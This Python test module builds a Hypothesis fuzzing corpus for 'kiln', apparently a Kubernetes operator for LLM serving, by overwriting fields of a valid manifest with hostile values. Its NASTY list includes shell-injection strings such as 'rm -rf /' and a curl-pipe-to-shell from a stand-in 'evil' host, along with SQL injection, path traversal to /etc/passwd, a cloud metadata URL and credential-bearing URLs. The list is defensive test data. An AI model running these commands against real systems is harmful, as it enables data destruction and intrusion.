"""The hostile-input corpus: a valid manifest with one to three fields overwritten.

The values are wrong types, huge and tiny numbers, unicode, shell-injection strings, ``..``
paths, URLs with credentials, names Kubernetes refuses for a Service, reserved resource
prefixes, or plausible values that a real manifest might carry (so that a good share is
accepted). ``test_hostile_input.py`` sends a draw of it through ``kiln render`` and the
reconcile; :func:`sweep_hostile` is the fixed draw that the real API server is sent
(``test_admission_parity.py``, ``test_rendered_objects.py``).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

__all__ = ["BASE", "PATHS", "HOSTILE_EXAMPLES", "mutations", "mutate", "sweep_hostile"]

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_EXAMPLES = 300

BASE = yaml.safe_load((ROOT / "examples" / "mistral-7b-fp16.yaml").read_text())
BASE["spec"]["autoscaling"] = {"mode": "builtin", "minReplicas": 1, "maxReplicas": 2}
BASE["spec"]["engine"] = {"maxBatchSize": 64, "maxSeqLen": 8192}

PATHS = [
    "apiVersion", "kind", "metadata", "metadata.name", "metadata.namespace", "spec", "spec.model",
    "spec.model.source", "spec.model.revision", "spec.model.credentials",
    "spec.model.credentials.secretName", "spec.precision", "spec.kvCacheDtype", "spec.gpus",
    "spec.gpu", "spec.gpu.type", "spec.gpu.perNode", "spec.gpu.resourceName", "spec.gpu.memoryGiB",
    "spec.parallelism.tensor", "spec.parallelism.pipeline", "spec.runtime.server",
    "spec.runtime.image", "spec.engine.maxBatchSize", "spec.engine.maxInputLen",
    "spec.engine.maxSeqLen", "spec.engine.maxNumTokens", "spec.engine.tokensPerBlock",
    "spec.engine.kvCacheFreeGpuMemFraction", "spec.engineCache.claimName", "spec.replicas",
    "spec.autoscaling.mode", "spec.autoscaling.minReplicas", "spec.autoscaling.maxReplicas",
    "spec.autoscaling.targetKVCacheUtilization", "spec.autoscaling.prometheusUrl",
    "spec.autoscaling.scaleDownStabilizationSeconds", "spec.gpu.arch",
    "spec.unexpected", "spec.model.unexpected",
]
NASTY = [
    "", " ", "$(reboot)", "`id`", "a; rm -rf /", "x && curl http://evil | sh", "'; DROP TABLE x; --",
    "${HF_TOKEN}", "{{ .Values.secret }}", "../../etc/passwd", "..", "\u202eevil", "null", "~",
    "hf://user:hunter2@huggingface.co/org/model", "s3://AKIAEXAMPLE:secret@bucket/key",
    "pvc://models/../../etc", "pvc://models/./x", "pvc://Models/x", "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data", "hf://org/model\nname", "hf://org/mo del",
    "hf://org/model;id", "hf://" + "a" * 300, "hf://org", "s3://", "pvc://", "hf://../model",
    "http://prometheus:9090", "http://user:pw@prometheus:9090", "nvcr.io/nvidia/x:1; id",
    "http://prometheus:9090/api/v1/admin/tsdb/delete_series?match[]=up&x=", "http://prometheus:9090/#",
    "http://prometheus:9090@evil.example",
    "-rf", "--help", "a" * 64, "A-Name", "name-", "x.y",
    # Names a Service cannot carry, reserved resource names.
    "8b", "8b-server", "llama.v3", "llama-3.1-8b", "b" * 63 + ".x", "kubernetes.io/gpu",
    "requests.nvidia.com/gpu", "gpu.kubernetes.io/h100", "example.com/" + "g" * 64, "sm", "sm9x",
]
# Extreme numbers: the smallest and largest floats, past int64, thousands of digits (as many
# as Python writes out by default).
EXTREME = [1e-300, 5e-324, 1e308, -1e308, -0.0, 2 ** 63, -(2 ** 63) - 1, 10 ** 4000, 0.0004, 3601,
           86401, 0.001, 1e-7]
VALID = [
    "hf://meta-llama/Llama-3.1-8B-Instruct", "pvc://models/llama/8b", "s3://my-bucket/models/x",
    "fp8", "fp16", "int4-awq", "H100-80GB", "A100-80GB", "triton", "djl", "builtin", "keda", "hpa",
    "main", "v1.0", "hf-token", "engine-cache", "nvidia.com/gpu",
]
value = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2 ** 70), max_value=2 ** 70),
    st.integers(min_value=0, max_value=16), st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(EXTREME),
    st.text(max_size=80), st.sampled_from(NASTY), st.sampled_from(VALID),
    st.lists(st.integers(), max_size=2), st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
)
# Values a real manifest might carry, so that a good share of the examples is accepted.
PLAUSIBLE = {
    "metadata.name": ["a", "x" * 63, "llama-3-1"], "metadata.namespace": ["default", "team-a"],
    "spec.model.source": VALID[:3] + ["hf://Qwen/Qwen2.5-7B-Instruct", "s3://b.ucket/a/b/"],
    "spec.model.revision": ["main", "v1.0", "0123abcd", "refs/pr/1"],
    "spec.model.credentials": [{"secretName": "hf-token"}], "spec.gpus": [1, 2, 4, 8],
    "spec.precision": ["fp8", "fp16", "bf16", "int4-awq", "int8-sq"], "spec.replicas": [0, 1, 3],
    "spec.autoscaling.mode": ["builtin", "keda", "hpa"], "spec.autoscaling.maxReplicas": [2, 8, 100],
    "spec.engine.maxBatchSize": [1, 8, 256], "spec.runtime.server": ["triton", "djl"],
    "spec.autoscaling.prometheusUrl": ["http://prometheus.monitoring:9090"],
    "spec.runtime.image": ["registry.example.com/kiln/runtime:1.0"],
    "spec.gpu.resourceName": ["nvidia.com/gpu", "amd.com/gpu", "kubernetes.io/gpu", "requests.nvidia.com/gpu"],
    "spec.autoscaling.scaleDownStabilizationSeconds": [0, 300, 3600, 3601, 86400],
    "spec.gpu": [{"type": "NVIDIA-RTX-A6000", "memoryGiB": 48, "arch": "sm86"},
                 {"type": "x" * 40, "memoryGiB": 80}, {"type": "L40S", "memoryGiB": 44}],
    "spec.engine.kvCacheFreeGpuMemFraction": [0.01, 0.5, 0.0001, 1e-300],
}
plausible = st.sampled_from(sorted(PLAUSIBLE)).flatmap(
    lambda path: st.tuples(st.just(path), st.sampled_from(PLAUSIBLE[path])))
mutations = st.lists(st.one_of(st.tuples(st.sampled_from(PATHS), value), plausible), min_size=1, max_size=3)


def mutate(changes: list[tuple[str, Any]]) -> dict[str, Any]:
    """BASE with each (dotted path, value) of ``changes`` written over it."""
    manifest = copy.deepcopy(BASE)
    for path, new in changes:
        *parents, leaf = path.split(".")
        node = manifest
        for key in parents:
            if not isinstance(node.get(key), dict):
                node[key] = {}
            node = node[key]
        node[leaf] = new
    return manifest


def sweep_hostile(check: Callable[[dict[str, Any]], None]) -> None:
    """``check(manifest)`` for each of a fixed (derandomized) draw of HOSTILE_EXAMPLES hostile
    manifests that can be sent to an API server at all (JSON without NaN or infinities)."""
    @settings(max_examples=HOSTILE_EXAMPLES, derandomize=True, database=None, deadline=None,
              suppress_health_check=list(HealthCheck))
    @given(mutations)
    def hostile(changes: list[tuple[str, Any]]) -> None:
        manifest = mutate(changes)
        try:
            json.dumps(manifest, allow_nan=False)
        except ValueError:  # not expressible as JSON: no API server can be sent it
            return
        check(manifest)

    hostile()
